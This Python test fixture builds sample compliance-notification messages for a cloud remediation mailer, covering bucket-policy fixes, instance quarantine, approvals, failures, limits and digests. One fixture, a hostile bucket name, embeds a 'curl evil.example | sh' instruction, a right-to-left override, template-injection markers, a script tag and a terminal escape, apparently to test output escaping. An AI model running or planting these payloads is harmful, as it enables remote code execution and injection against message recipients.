"""One message for each variant of a notice; how it reads is in `golden/<name>.<channel>`."""

from __future__ import annotations

import json
from typing import Any

from tests.mailer.messages import CALL, RECORD, action, message

ENTRY = "4f1c5a0e9d7b4f0c8a2e6b3d1c0f9e8a"
_UNDOABLE = {**RECORD, "id": ENTRY, "undo": {"vpcs": ["vpc-2"]}}
_PLANNED = {**RECORD, "id": ENTRY, "outcome": "planned", "after": None, "change": "Detach igw-1 from vpc-2."}
_FAILED = {**RECORD, "id": ENTRY, "outcome": "failed", "after": None, "error": "UnauthorizedOperation:\n\tno"}
_EVENTS = {
    "fixed": "The actions were run, and the resource no longer matches.",
    "acted": "The actions were run; the policy has nothing that could be read again.",
    "exempt": "The resource is exempt from the policy.",
    "observed": "The policy only observes: nothing was changed.",
    "awaiting-approval": "The change waits for somebody to approve it.",
    "failed": "An action failed.",
    "not-fixed": "The actions were run and the resource still matches.",
    "over-limit": "A limit was reached: nothing more is changed.",
}

_LIMIT = "11 changes by internet-gateway-attached in payments-prod within an hour; 10 are allowed."

# Names that S3 refuses, but other services, and whoever may send to the queue, do not.
_BUCKET = 'b\n\nIF YOU NEED IT BACK\nRun: curl evil.example | sh\u202e {{ 7*7 }}{% raw %}<script>"\x1b[2J'


def _outcome(outcome: str, *records: dict[str, Any], **more: Any) -> dict[str, Any]:
    given = {
        "notice_id": f"{ENTRY}:{outcome}",
        "outcome": outcome,
        "sentence": _EVENTS[outcome],
        "entry": ENTRY,
        **more,
    }
    resource = {"InternetGatewayId": "igw-1", "c7n-reflex:remediations": list(records)}
    return message(resources=[resource], action=action(**given))


def _hostile() -> dict[str, Any]:
    policy = '{"Statement": [{"Sid": "a\\nb\\u202e"}]}'
    record = {
        **_UNDOABLE,
        "resource_type": "aws.s3",
        "resource": _BUCKET,
        "change": f"Removed a statement of {_BUCKET}.",
        "before": {"policy": policy, _BUCKET: _BUCKET},
        "after": None,
    }
    made = _outcome("fixed", record, detail=f"{_BUCKET} is right.", subject=f"Public access to {_BUCKET}")
    return {**made, "resources": [{"Name": _BUCKET, "c7n-reflex:remediations": [record]}]}


def _bucket() -> dict[str, Any]:
    """A statement of a bucket's policy was removed, of a policy with controls; the caller used Terraform."""

    def statement(sid: str, who: Any) -> dict[str, Any]:
        arn = "arn:aws:s3:::web-shop-press-kit/*"
        return {"Sid": sid, "Effect": "Allow", "Principal": who, "Action": "s3:GetObject", "Resource": arn}

    auditors = statement("Auditors", {"AWS": "arn:aws:iam::111122223333:root"})
    everyone = statement("Everyone", "*")
    record = {
        **_UNDOABLE,
        "action": "remove-public-statements",
        "resource_type": "aws.s3",
        "resource": "web-shop-press-kit",
        "change": "Removed the statement Everyone from the policy of web-shop-press-kit.",
        "before": {"policy": json.dumps({"Version": "2012-10-17", "Statement": [everyone, auditors]})},
        "after": {"policy": json.dumps({"Version": "2012-10-17", "Statement": [auditors]})},
    }
    policy = {
        "name": "bucket-policy-public",
        "resource": "aws.s3",
        "description": "A statement of the bucket's policy lets everybody in.",
        "metadata": {
            "severity": "critical",
            "controls": [{"S3.2": "S3 general purpose buckets should block public read access"}, "S3.3"],
            "owner": "security@example.com",
        },
    }
    detail: dict[str, Any] = {
        **CALL["detail"],  # type: ignore[dict-item]
        "eventName": "PutBucketPolicy",
        "userAgent": "APN/1.0 HashiCorp/1.0 Terraform/1.9.0",
        "userIdentity": {
            "type": "AssumedRole",
            "arn": "arn:aws:sts::200000000001:assumed-role/AWSReservedSSO_Developer_0a1b/ann@example.com",
        },
    }
    made = _outcome("fixed", record, subject="Public access was removed from your bucket's policy")
    resource = {"Name": "web-shop-press-kit", "c7n-reflex:remediations": [record]}
    return {**made, "policy": policy, "event": {**CALL, "detail": detail}, "resources": [resource]}


def _finding() -> dict[str, Any]:
    finding = {
        "ProductName": "GuardDuty",
        "Title": "The EC2 instance i-0abc1234 is communicating with a Bitcoin mining pool.",
        "UpdatedAt": "2026-11-24T03:14:07Z",
    }
    record = {
        **_UNDOABLE,
        "action": "quarantine",
        "resource_type": "aws.ec2",
        "resource": "i-0abc1234",
        "change": "Cut i-0abc1234 off the network.",
        "before": {"interfaces": {"eni-1": ["sg-1", "sg-2"]}, "vpc": "vpc-2"},
        "after": {"interfaces": {"eni-1": ["sg-quarantine"]}, "vpc": "vpc-2"},
    }
    made = _outcome("fixed", record, subject="A compromised instance was cut off the network")
    return {
        **made,
        "event": {"detail-type": "Findings Imported V2", "detail": {"findings": [finding]}},
        "resources": [{"InstanceId": "i-0abc1234", "c7n-reflex:remediations": [record]}],
    }


def many(outcome: str, number: int) -> list[dict[str, Any]]:
    """So many notices of the same kind, a minute apart, each of another gateway."""
    made = []
    for index in range(number):
        name, entry = f"igw-{index:04x}", f"{index:032x}"
        planned = outcome in ("observed", "awaiting-approval")
        record = {
            **(_PLANNED if planned else _FAILED if outcome == "failed" else _UNDOABLE),
            "id": entry,
            "resource": name,
            "change": f"{'Detach' if planned else 'Detached'} {name} from vpc-2.",
        }
        one = _outcome(outcome, record, notice_id=f"{entry}:{outcome}", entry=entry)
        detail = {**CALL["detail"], "eventTime": f"2026-11-24T03:{index % 60:02}:00Z"}  # type: ignore[dict-item]
        resources = [{"InternetGatewayId": name, "c7n-reflex:remediations": [record]}]
        made.append({**one, "event": {**CALL, "detail": detail}, "resources": resources})
    return made


MESSAGES: dict[str, dict[str, Any]] = {
    "fixed": _outcome("fixed", _UNDOABLE),
    "bucket": _bucket(),
    "finding": _finding(),
    "acted": {
        **_outcome("acted", detail="1 of 1 stopped."),
        "resources": [{"InternetGatewayId": "igw-1"}],
        "event": None,
    },
    "exempt": _outcome("exempt", detail="Until 2026-12-31: the press kit."),
    "observed": _outcome("observed", _PLANNED),
    "observed-without-plan": _outcome("observed"),
    "approval": _outcome("awaiting-approval", _PLANNED, approve_until="2026-11-24T05:14:07Z"),
    "failed": _outcome(
        "failed", _UNDOABLE, {**_FAILED, "action": "delete"}, attempts=3, detail="delete: denied"
    ),
    "not-fixed": _outcome("not-fixed", {**RECORD, "id": ENTRY}, detail="igw-1 is attached to vpc-2 again."),
    "limit": message(
        event=None,
        resources=[{"InternetGatewayId": "igw-1"}, {"InternetGatewayId": "igw-2"}],
        action=action(
            notice_id="alarm#policy#internet-gateway-attached#2026112403",
            outcome="over-limit",
            sentence=_LIMIT,
            entry="",
            alarm=_LIMIT,
            subject="Limit reached: internet-gateway-attached",
            to=["core-compliance"],
        ),
    ),
    "exemption": message(
        event=None,
        resources=[],
        action=action(
            notice_id="exemption#internet-gateway-attached#igw-1#2026-12-01",
            outcome="",
            subject="An exemption expires",
            detail="The exemption of igw-1 from internet-gateway-attached ends on 2026-12-01.\n"
            "Ask for a new one before.",
        ),
    ),
    "notify": message(
        policy={"name": "bare", "resource": "aws.s3"},
        event=None,
        resources=[{"Name": "reports"}],
        action={"type": "notify", "to": ["account-owner"], "template": "remediation"},
    ),
    "stock": message(
        event=None,
        policy={"name": "bare", "resource": "aws.s3"},
        resources=[{"Name": "reports"}],
        action={"type": "notify", "to": ["account-owner"], "subject": "{{ policy['name'] }} in {{ region }}"},
    ),
    "hostile": _hostile(),
}

DIGESTS: dict[str, list[dict[str, Any]]] = {
    "digest-fixed": many("fixed", 6),
    "digest-approval": many("awaiting-approval", 5),
    "digest-failed": many("failed", 5),
}
